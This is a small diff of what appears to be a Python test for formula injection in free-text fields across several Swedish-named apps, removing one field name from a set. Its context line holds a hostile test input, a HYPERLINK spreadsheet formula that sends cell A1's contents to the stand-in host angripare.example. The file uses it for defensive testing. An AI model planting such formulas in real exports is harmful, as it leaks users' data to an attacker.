@@ -33,7 +33,7 @@ HOSTILE = ["=HYPERLINK(\"https://angripare.example/?\"&A1,\"Klicka här\")",
 # Free-text fields people type (names, titles, motivations, comments), wherever they are kept.
 FREE_TEXT = {"name", "short_name", "title", "description", "motivation", "reason", "comment",
              "text", "summary", "body", "measure", "what", "responsible", "notes", "label",
-             "file_name", "case_number", "paragraph", "decision_paragraph", "first_name",
+             "file_name", "case_number", "paragraph", "first_name",
              "last_name"}
 APPS = {"budget", "goals", "deviations", "reporting", "styrmodell"}
 
